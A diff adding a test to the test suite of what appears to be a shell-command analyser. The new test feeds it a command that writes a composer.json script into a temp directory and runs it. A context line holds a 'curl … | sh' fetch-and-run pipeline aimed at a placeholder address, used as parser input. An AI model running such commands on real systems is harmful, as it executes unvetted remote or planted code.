@@ -122,6 +122,11 @@ def test_what_a_program_is_given_by_a_substitution_of_processes_is_code_to_it() 
     assert nmap.code == ["os.exit()\n"]
 
 
+def test_a_tool_is_shown_what_was_put_into_the_directory_that_it_is_given() -> None:
+    text = 'D=$(mktemp -d); echo \'{"scripts":{"x":"id"}}\' > $D/composer.json; composer --working-dir=$D run-script x'
+    assert read(text).acts[-1].code == ['{"scripts":{"x":"id"}}\n']
+
+
 def test_a_pipeline_knows_its_neighbours() -> None:
     curl, shell = read("curl -s http://192.0.2.1/x | sh").acts
     assert (curl.after, [act.name for act in shell.before]) == (["sh"], ["curl"])
